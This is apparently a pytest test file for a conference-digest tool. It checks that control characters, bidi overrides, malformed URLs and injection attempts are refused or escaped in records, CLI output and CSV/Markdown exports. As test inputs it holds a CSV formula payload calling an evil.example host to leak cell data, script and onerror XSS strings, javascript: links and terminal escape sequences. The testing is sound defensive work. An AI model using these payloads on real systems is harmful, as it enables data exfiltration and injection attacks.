"""Hostile text in every field and output (issue 19, items 8–10): what `check` refuses, what
the CLI prints, what the exports write and how every platform links a record's URL.

Real parts throughout: the tiny fixture project checked through the CLI in-process, the real
social renderer for the five platforms, the real export writers, the real SQLite store.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from aspdigest.cli import app
from aspdigest.config import load_project
from aspdigest.content import load_content
from aspdigest.days import plan_days
from aspdigest.export import Draft, Image, to_csv, to_markdown
from aspdigest.render import RenderContext, social
from aspdigest.render.templates import make_environment
from aspdigest.store import open_project_store
from aspdigest.text import bluesky_facets, extract_mastodon_urls, extract_urls
from aspdigest.text.links import linkable

FIXTURES = Path(__file__).resolve().parent / "fixtures"
DAY = "content/demo/2025-03-10"
RECORD = f"{DAY}/x.md"
EVENT = "content/demo/event.toml"
PLATFORMS = ("x", "bluesky", "mastodon", "threads", "linkedin")
runner = CliRunner()


def project_root(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(FIXTURES / "project", root)
    return root


def record(**fields: str) -> str:
    """A valid record's text with `fields` replaced; values are YAML as written."""
    values = {
        "title": "Opening keynote",
        "kind": "session",
        "summary": "The President opened the conference.",
        "url": "https://www.icc-cpi.int/",
        **fields,
    }
    return (
        "---\n"
        f"title: {values['title']}\n"
        f"kind: {values['kind']}\n"
        f"summary: {values['summary']}\n"
        "links:\n"
        "  - title: The Court\n"
        f"    url: {values['url']}\n"
        "---\n"
        f"{values.get('body', 'Body.')}\n"
    )


def check_lines(root: Path) -> tuple[int, list[str], str]:
    result = runner.invoke(app, ["check", "demo", "--project", str(root)])
    assert "Traceback" not in result.output
    return result.exit_code, result.stderr.splitlines(), result.stderr


# -- item 9: control, noncharacter and bidi characters in records -----------------------------


@pytest.mark.parametrize(
    ("yaml_value", "message"),
    [
        ('"a\\eb"', "contains the control character U+001B (ESCAPE); remove it"),
        ('"a\\x01b"', "contains the control character U+0001; remove it"),
        ('"a\\0b"', "contains the control character U+0000 (NULL); remove it"),
        ('"a\\uFFFEb"', "contains the noncharacter U+FFFE; remove it"),
        (
            '"a \\u202Eb"',
            "contains U+202E (RIGHT-TO-LEFT OVERRIDE) that is never closed; close it with "
            "U+202C (POP DIRECTIONAL FORMATTING) or remove it",
        ),
    ],
)
def test_check_refuses_hostile_characters_in_a_summary(
    tmp_path: Path, yaml_value: str, message: str
) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_text(record(summary=yaml_value), encoding="utf-8")
    code, lines, _ = check_lines(root)
    assert code == 1
    assert lines == [f"{RECORD}: summary: {message}"]
    assert not (root / "out").exists()


def test_check_names_every_field_of_records_and_event(tmp_path: Path) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_text(
        "---\n"
        'title: "T\\e"\n'
        "kind: session\n"
        "summary: S.\n"
        'organisers: ["O\\x07"]\n'
        "speakers:\n"
        '  - name: "N\\x7f"\n'
        '    role: "R\\x85"\n'
        "quotes:\n"
        '  - text: "Q\\u2066"\n'
        "    by: N\n"
        "links:\n"
        '  - title: "L\\x9b"\n'
        "    url: https://example.org/\n"
        'tags: ["t\\uFDD0"]\n'
        "---\n"
        "Body \x1b[2J.\n",
        encoding="utf-8",
    )
    event = (root / EVENT).read_text(encoding="utf-8")
    event = event.replace('venue = "Peace Palace, The Hague"', 'venue = "V\\u001b"')
    event = event.replace('intro = "The first', 'intro = "\\u0008The first')
    event += '\n[handles."Bad\\u202e"]\nlinkedin = "li\\u0000"\n'
    (root / EVENT).write_text(event, encoding="utf-8")
    code, lines, raw = check_lines(root)
    assert code == 1
    esc = "contains the control character U+001B (ESCAPE); remove it"
    assert lines == [
        f"{RECORD}: title: {esc}",
        f"{RECORD}: organisers[0]: contains the control character U+0007; remove it",
        f"{RECORD}: speakers[0].name: contains the control character U+007F (DELETE); remove it",
        f"{RECORD}: speakers[0].role: contains the control character U+0085; remove it",
        f"{RECORD}: quotes[0].text: contains U+2066 (LEFT-TO-RIGHT ISOLATE) that is never "
        "closed; close it with U+2069 (POP DIRECTIONAL ISOLATE) or remove it",
        f"{RECORD}: links[0].title: contains the control character U+009B; remove it",
        f"{RECORD}: tags[0]: contains the noncharacter U+FDD0; remove it",
        f"{RECORD}: body: {esc}",
        f"{EVENT}: venue: {esc}",
        f"{EVENT}: days.2025-03-10.intro: contains the control character U+0008 "
        "(BACKSPACE); remove it",
        f'{EVENT}: handles."Bad\\u202e": contains U+202E (RIGHT-TO-LEFT OVERRIDE) that is '
        "never closed; close it with U+202C (POP DIRECTIONAL FORMATTING) or remove it",
        f'{EVENT}: handles."Bad\\u202e".linkedin: contains the control character U+0000 '
        "(NULL); remove it",
    ]
    assert "\x1b" not in raw and "\u202e" not in raw


def test_check_refuses_controls_in_the_markdown_body(tmp_path: Path) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_text(record(body="Clear \x1b[2J the screen."), encoding="utf-8")
    code, lines, raw = check_lines(root)
    assert code == 1
    assert lines == [f"{RECORD}: body: contains the control character U+001B (ESCAPE); remove it"]
    assert "\x1b" not in raw


def test_windows_line_endings_in_the_body_are_fine(tmp_path: Path) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_bytes(record(body="One.\n\nTwo.").replace("\n", "\r\n").encode())
    assert check_lines(root)[0] == 0


def test_check_errors_quoting_an_escape_sequence_are_printed_escaped(tmp_path: Path) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_text(record(kind='"\\e[2J\\e]0;pwned\\a"'), encoding="utf-8")
    code, lines, raw = check_lines(root)
    assert code == 1
    assert lines == [
        f"{RECORD}: kind: expected one of session, side-event, statement, launch, report, "
        'screening, plea, closing; got the text "\\x1b[2J\\x1b]0;pwned\\x07"'
    ]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", raw)


# -- item 10: link URLs ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "message"),
    [
        (
            '"https://example.org/a\\"><script>alert(1)</script>"',
            "URL contains U+0022 (QUOTATION MARK) at character 22; encode it as %22",
        ),
        (
            "https://example.org/a<b",
            "URL contains U+003C (LESS-THAN SIGN) at character 22; encode it as %3C",
        ),
        (
            "https://example.org/a\\b",
            "URL contains U+005C (REVERSE SOLIDUS) at character 22; encode it as %5C",
        ),
        (
            "'https://example.org/{x}'",
            "URL contains U+007B (LEFT CURLY BRACKET) at character 21; encode it as %7B",
        ),
        (
            "https://example.org/a|b",
            "URL contains U+007C (VERTICAL LINE) at character 22; encode it as %7C",
        ),
        (
            "https://example.org/a^b",
            "URL contains U+005E (CIRCUMFLEX ACCENT) at character 22; encode it as %5E",
        ),
        (
            "https://example.org/a`b",
            "URL contains U+0060 (GRAVE ACCENT) at character 22; encode it as %60",
        ),
        (
            "https://example.org/café",
            "URL contains U+00E9 (LATIN SMALL LETTER E WITH ACUTE) at character 24; "
            "encode it as %C3%A9",
        ),
        (
            "https://example.org/100%",
            'URL has a "%" not followed by two hex digits at character 24; '
            "write %25 for a percent sign",
        ),
        (
            '"https://example.org/a\\eb"',
            "URL contains the control character U+001B (ESCAPE); remove it",
        ),
        ("https://bücher.de/", 'URL host "bücher.de" is not ASCII; write it as "xn--bcher-kva.de"'),
        ("https://user@example.org/", "URL has a user name before its host (…@); remove it"),
        ("https://localhost/", 'URL host "localhost" is not a domain name such as example.org'),
        (
            "https://ex_ample.org/",
            'URL host "ex_ample.org" is not a domain name such as example.org',
        ),
        (
            "https://example.invalid/",
            'URL host "example.invalid" does not end in a known top-level domain',
        ),
        (
            "https://example.org:0/",
            'URL has the port "0"; expected a number from 1 to 65535 (or none)',
        ),
    ],
)
def test_check_parses_link_urls_strictly(tmp_path: Path, url: str, message: str) -> None:
    root = project_root(tmp_path)
    (root / RECORD).write_text(record(url=url), encoding="utf-8")
    code, lines, _ = check_lines(root)
    assert code == 1
    assert lines == [f"{RECORD}: links[0].url: {message}"]


# Strictly valid URLs with the characters where some platform's link detection stops.
TRICKY_URLS = (
    "https://example.org/wiki/Rome_Statute_(1998)",
    "https://example.org/wiki/Statute_(draft",
    "https://example.org/report)",
    "https://example.org/it's-here!",
    "https://example.org/a*b,c;d~",
    "https://example.org/end.",
    "https://example.org/end~",
    "https://example.org/key=",
    "https://example.org/p?q=a.b,c;",
    "https://example.org/p?q=(x)&r=y!",
    "https://example.org/p#section-2.",
    "https://example.org/$price$",
    "https://example.org/a%20b%2C",
    "https://example.org/:colon:",
    "https://example.org/p?",
)


def _same_resource(original: str, posted: str) -> bool:
    return unquote(posted) == unquote(original).removesuffix("?").removesuffix("#")


@pytest.mark.parametrize("url", TRICKY_URLS)
def test_every_platform_links_the_whole_url(tmp_path: Path, url: str) -> None:
    root = project_root(tmp_path)
    keynote = root / DAY / "keynote.md"
    keynote.write_text(
        keynote.read_text(encoding="utf-8").replace(
            "url: https://www.icc-cpi.int/", f"url: {json.dumps(url)}"
        ),
        encoding="utf-8",
    )
    project = load_project(root, environ={})
    content = load_content(project, "demo")
    assert content.records[0].links[0].url == url  # check accepts it
    ctx = RenderContext(project, content, make_environment(project))
    day = plan_days(content)[0]
    rendered = social.render(day, ctx)
    files = {a.path: json.loads(a.data) for a in rendered.artifacts if a.path.endswith(".json")}
    for platform in PLATFORMS:
        posted = linkable(url, platform)
        assert _same_resource(url, posted), (platform, posted)
        if platform == "linkedin":
            continue  # LinkedIn's one post links the digest only; its highlights are titles
        posts = [p for p in files[f"thread.{platform}.json"]["posts"] if posted in p["text"]]
        if platform == "bluesky":
            posts = [
                p
                for p in files["thread.bluesky.json"]["posts"]
                if any(f.get("uri") == posted for f in p["facets"])
            ]
        assert len(posts) == 1, (platform, posted)
        post = posts[0]
        assert posted in post["links"], (platform, post["links"])
        text = post["text"]
        if platform == "bluesky":
            continue  # the facet carrying the whole URI was what found the post
        found = extract_mastodon_urls(text) if platform == "mastodon" else extract_urls(text)
        assert posted in [e.text for e in found], (platform, found)


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("url", TRICKY_URLS)
def test_linkable_urls_are_one_entity_in_any_paragraph(platform: str, url: str) -> None:
    posted = linkable(url, platform)
    text = f"A summary.\n\n{posted}\n\nNext item"
    if platform == "bluesky":
        links = [f for f in bluesky_facets(text) if f.kind == "link"]
        assert [link.value for link in links] == [posted]
        return
    found = extract_mastodon_urls(text) if platform == "mastodon" else extract_urls(text)
    assert [e.text for e in found] == [posted]


def test_a_url_every_platform_links_is_posted_unchanged() -> None:
    url = "https://example.org/wiki/Rome_Statute_(1998)?a=1&b=it's#top"
    assert {linkable(url, p) for p in PLATFORMS} == {url}


# -- item 8: exports ---------------------------------------------------------------------------


def _draft(text: str, alt: str = "A card.", quote: str = "") -> Draft:
    return Draft(
        date="2025-03-10",
        local_time="",
        timezone="Europe/Amsterdam",
        day="2025-03-10",
        platform="x",
        kind="thread",
        position=1,
        total=1,
        text=text,
        length=len(text),
        limit=280,
        unit="weighted characters",
        links=(),
        images=(Image("out/demo/2025-03-10/cards/a.png", alt),),
        records=("keynote",),
        quote=quote,
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(start: str) -> None:
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Opening keynote")'
    data = to_csv([_draft(hostile, alt=hostile)], "demo").decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(data, newline="")))
    assert row["text"] == "'" + hostile
    assert row["alt_text"] == "'" + hostile
    assert row["date"] == "2025-03-10" and row["length"] == str(len(hostile))


def test_csv_leaves_ordinary_cells_alone() -> None:
    data = to_csv([_draft("Opening keynote = a start")], "demo").decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(data, newline="")))
    assert row["text"] == "Opening keynote = a start"


def test_markdown_export_keeps_a_hostile_alt_text_inside_its_fence() -> None:
    alt = "x\n```\n<img src=x onerror=alert(1)> [click](javascript:alert(1))\n# Heading"
    doc = to_markdown([_draft("Post ```` text", alt=alt)], "demo").decode()
    tokens = MarkdownIt("commonmark").parse(doc)
    fences = [t.content for t in tokens if t.type == "fence"]
    assert fences == ["Post ```` text\n", alt + "\n"]
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    inline = [c for t in tokens if t.children for c in t.children]
    assert not [c for c in inline if c.type in ("link_open", "image", "html_inline")]
    assert "Alt text (" + str(len(alt)) + " characters):" in doc


# -- terminal output ---------------------------------------------------------------------------


def test_by_with_a_line_break_is_refused(sample_root: Path) -> None:
    result = runner.invoke(
        app, ["schedule", "pause", "asp23", "--by", "a\r\nb", "--project", str(sample_root)]
    )
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "--by: contains the control character U+000D (CARRIAGE RETURN); remove it"
    ]
    listing = runner.invoke(app, ["schedule", "list", "asp23", "--project", str(sample_root)])
    assert "\r" not in listing.output and "a\\r" not in listing.output


def test_approver_from_the_environment_is_checked_too(sample_root: Path) -> None:
    result = runner.invoke(
        app,
        ["schedule", "pause", "asp23", "--project", str(sample_root)],
        env={"ASPDIGEST_APPROVER": "ana\x1b[2J"},
    )
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "ASPDIGEST_APPROVER: contains the control character U+001B (ESCAPE); remove it"
    ]


def test_subscribers_list_escapes_what_the_store_holds(sample_root: Path) -> None:
    project = load_project(sample_root, environ={})
    with open_project_store(project) as store:
        store.import_subscribers([("ana@example.org", "Ana\x1b[2J\r\n\u202eevil", "en")])
    result = runner.invoke(app, ["subscribers", "list", "--project", str(sample_root)])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        "address\tname\tlanguage\tstatus",
        "ana@example.org\tAna\\x1b[2J\\x0d\\n\\u202eevil\ten",
    ]


def test_a_stray_byte_order_mark_and_a_line_separator_in_event_fields(tmp_path: Path) -> None:
    # Found by the fuzz test: U+FEFF passed check and then no X post could be made; U+2028 in a
    # hashtag split the error line in two on a terminal.
    root = project_root(tmp_path)
    event = (root / EVENT).read_text(encoding="utf-8")
    event = re.sub(r'short_name = "[^"]*"', 'short_name = "X\\\\ufeff"', event)
    event = re.sub(r"hashtags = \[[^\]]*\]", 'hashtags = ["a\\\\u2028b"]', event)
    (root / EVENT).write_text(event, encoding="utf-8")
    code, lines, _ = check_lines(root)
    assert code == 1
    assert lines == [
        "content/demo/event.toml: short_name: contains the stray byte order mark U+FEFF "
        "(ZERO WIDTH NO-BREAK SPACE); remove it",
        'content/demo/event.toml: hashtags[0]: "a\\u2028b" has "\\u2028"; a hashtag is one word '
        'of letters, digits and _, e.g. "ab"',
    ]


def test_a_character_of_several_bytes_is_encoded_byte_by_byte() -> None:
    # twitter-text stops at a closing quotation mark; Bluesky and Mastodon take it
    url = "https://example.org/a’"
    assert linkable(url, "x") == "https://example.org/a%E2%80%99"
    assert linkable(url, "threads") == "https://example.org/a%E2%80%99"
    assert linkable(url, "bluesky") == url and linkable(url, "mastodon") == url


def test_linkable_known_answers_at_the_host_query_and_scheme() -> None:
    # the host is never encoded, even where a detector stops before its end
    assert linkable("https://example.org.", "x") == "https://example.org."
    # the query starts the part that may be encoded, as a path would
    assert linkable("https://example.org?q=a.", "x") == "https://example.org?q=a%2E"
    # the authority is the one after the first "://", not one inside the query
    assert linkable("https://example.org/a’b?u=https://b.org/", "x") == (
        "https://example.org/a%E2%80%99b?u=https://b.org/"
    )


def test_linked_span_is_each_platforms_own_detection() -> None:
    from aspdigest.text.links import linked_span

    assert linked_span("https://example.org/key=", "x") == "https://example.org/key="
    assert linked_span("https://example.org/key=", "mastodon") == "https://example.org/key"
    assert linked_span("https://example.org/a~", "bluesky") == "https://example.org/a~"
    assert linked_span("https://example.org/a~", "x") == "https://example.org/a"
    # the link where the URL stands, not another one before it
    before = "See example.org and "
    assert linked_span("https://example.org/x", "bluesky", before) == "https://example.org/x"
    for platform in ("bluesky", "x", "mastodon"):
        assert linked_span("not a url", platform) == ""


def test_linkable_at_a_delimiter_and_at_a_stray_percent_sign() -> None:
    # the detector stops at the host's end: nothing after it is changed
    assert linkable("https://example.org?", "x") == "https://example.org?"
    # a final "?" is dropped and what then still stops the detector is encoded
    assert linkable("https://example.org/end.?", "x") == "https://example.org/end%2E"
    # a "%" the detector refuses is left alone: encoding it would change the URL
    assert linkable("https://example.org/e%", "x") == "https://example.org/e%"
    # X stops at the stray "%"; the URL ends in a letter, not in a "?" or "#" to drop: as written
    assert linkable("https://example.org/a%(X", "x") == "https://example.org/a%(X"
    # Bluesky stops at the final "?": it is dropped, then the "." Bluesky trims is encoded
    assert linkable("https://example.org/a.?", "bluesky") == "https://example.org/a%2E"
